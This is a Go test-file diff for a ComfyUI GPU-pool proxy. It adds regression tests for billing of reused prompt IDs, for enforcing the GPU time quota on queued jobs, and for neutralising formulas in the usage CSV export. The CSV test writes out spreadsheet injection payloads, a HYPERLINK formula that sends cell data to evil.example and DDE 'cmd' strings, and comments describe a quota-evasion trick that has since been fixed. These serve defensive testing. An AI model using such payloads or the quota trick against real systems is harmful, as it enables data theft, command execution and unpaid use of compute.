@@ -11,6 +11,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/uuid"
+
 	"github.com/comfyume/comfyume/comfytest"
 	"github.com/comfyume/comfyume/usage"
 )
@@ -528,5 +530,141 @@ func TestFallbackHomeJobsAreNotAccounted(t *testing.T) {
 	}
 	if r := findRow(admin.rows("?user=alice"), "alice"); r == nil || r.Jobs != 0 || r.GPUSeconds != 0 {
 		t.Fatalf("home jobs accounted on the pool: %+v", r)
+	}
+}
+
+// A prompt_id the user reuses once history_limit has forgotten its job is
+// a new job that ran on the GPU again: it is charged again. (Recording was
+// made idempotent per prompt id, so the rerun was free: a user could run
+// long jobs past their GPU quota by pushing one id out of their history
+// with small jobs and reusing it.)
+func TestReusedPromptIDIsChargedAgain(t *testing.T) {
+	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
+	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: 100 * time.Millisecond})
+	cf := strings.Replace(poolCaddyfile(home.URL(), gpu.URL(), ""), "outputs disk {DATA}", "outputs disk {DATA}\n\t\thistory_limit 1", 1)
+	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tquota 1h per day", 1)
+	cf, admin := withAdmin(t, cf)
+	g := startCaddy(t, cf)
+	br := g.openBrowser("mallory", "", true)
+	long := uuid.NewString()
+	run := func(id string, steps int) {
+		t.Helper()
+		body := map[string]any{"prompt": samplerWorkflow("r", steps), "client_id": br.SID}
+		if id != "" {
+			body["prompt_id"] = id
+		}
+		st, b, _ := g.do("mallory", "POST", "/api/prompt", body)
+		var a promptAnswer
+		if st != 200 || json.Unmarshal(b, &a) != nil || (id != "" && a.PromptID != id) {
+			t.Fatalf("prompt: %d %s", st, b)
+		}
+		br.untilJobEnd(a.PromptID, 30*time.Second)
+	}
+	run(long, 5)
+	first := admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 1 })
+	run("", 1) // pushes the long job out of the history (history_limit 1)
+	admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 2 })
+	deadline := time.Now().Add(10 * time.Second)
+	for st, _, _ := g.do("mallory", "GET", "/api/jobs/"+long, nil); st != 404; st, _, _ = g.do("mallory", "GET", "/api/jobs/"+long, nil) {
+		if time.Now().After(deadline) {
+			t.Fatalf("the first job was never forgotten: %d", st)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	second := admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 2 })
+	run(long, 5) // the same id again: the GPU works as long again
+	deadline = time.Now().Add(10 * time.Second)
+	for {
+		r := findRow(admin.rows("?user=mallory"), "mallory")
+		if r.Jobs == 3 && r.GPUSeconds > second.GPUSeconds+first.GPUSeconds/2 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the rerun of a reused prompt_id was not charged: %+v (after the first two: %+v)", *r, second)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// Prompts admitted while the user was under their GPU time quota, but
+// still waiting when their jobs that ended used it up, are not sent: each
+// is told why (the quota message, as an execution_error) and given back.
+// Before, every admitted prompt ran — up to max_queued of them past the
+// quota.
+func TestWaitingJobsStopAtGPUQuota(t *testing.T) {
+	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
+	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: 200 * time.Millisecond})
+	cf := poolCaddyfile(home.URL(), gpu.URL(), "")
+	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tquota 1s per day", 1)
+	cf, admin := withAdmin(t, cf)
+	g := startCaddy(t, cf)
+	br := g.openBrowser("alice", "", true)
+	first := g.queue("alice", br.SID, samplerWorkflow("q1", 5)) // 8 steps: 1.6s, past the quota
+	var waiting []promptAnswer
+	for i := 0; i < 3; i++ { // admitted: nothing has ended yet
+		waiting = append(waiting, g.queue("alice", br.SID, samplerWorkflow(fmt.Sprint("w", i), 5)))
+	}
+	if f := br.untilJobEnd(first.PromptID, 20*time.Second); indexOf(f, "execution_success") < 0 {
+		t.Fatalf("the job that crossed the quota was cut: %v", types(f))
+	}
+	// They end in any order: read until all three did.
+	ended, errs, started := map[string]bool{}, map[string]string{}, map[string]bool{}
+	deadline := time.Now().Add(20 * time.Second)
+	for len(ended) < len(waiting) {
+		f := br.next(time.Until(deadline))
+		id := f.str("prompt_id")
+		switch {
+		case f.Type == "executing" && f.Data["node"] == nil && id != "":
+			ended[id] = true
+		case f.Type == "execution_error":
+			errs[id] = f.str("exception_message")
+		case f.Type == "execution_start":
+			started[id] = true
+		}
+	}
+	for _, w := range waiting {
+		if started[w.PromptID] || !strings.Contains(errs[w.PromptID], "GPU time") {
+			t.Fatalf("a job waiting past the quota: started %v, error %q", started[w.PromptID], errs[w.PromptID])
+		}
+	}
+	r := admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 1 && r.Admitted == 1 })
+	if r.Success != 1 {
+		t.Fatalf("alice's row: %+v", r)
+	}
+}
+
+// User names that a spreadsheet would take for a formula (=, +, -, @ first)
+// are written to the usage CSV with a leading apostrophe, so that opening
+// the export runs nothing; a name that is a plain number stays as it is.
+func TestUsageCSVNeutralisesFormulas(t *testing.T) {
+	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
+	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu"})
+	cf, admin := withAdmin(t, poolCaddyfile(home.URL(), gpu.URL(), ""))
+	g := startCaddy(t, cf)
+	want := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		`+cmd|' /C calc'!A0`:                         `'+cmd|' /C calc'!A0`,
+		`-2+3+cmd|' /C calc'!A0`:                     `'-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`:                `'@SUM(1+1)*cmd|' /C calc'!A0`,
+		`-5`:                                         `-5`,
+	}
+	for user := range want {
+		if st, b, _ := g.do(user, "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("c", 1)}); st != 200 {
+			t.Fatalf("%q: %d %s", user, st, b)
+		}
+	}
+	st, body, _ := admin.do("GET", "/comfyume/usage?format=csv")
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if st != 200 || err != nil || len(recs) != len(want)+1 {
+		t.Fatalf("CSV: %d %v\n%s", st, err, body)
+	}
+	for _, rec := range recs[1:] {
+		found := false
+		for _, w := range want {
+			found = found || rec[2] == w
+		}
+		if !found {
+			t.Fatalf("user cell %q is not one of the neutralised names %q", rec[2], want)
+		}
 	}
 }
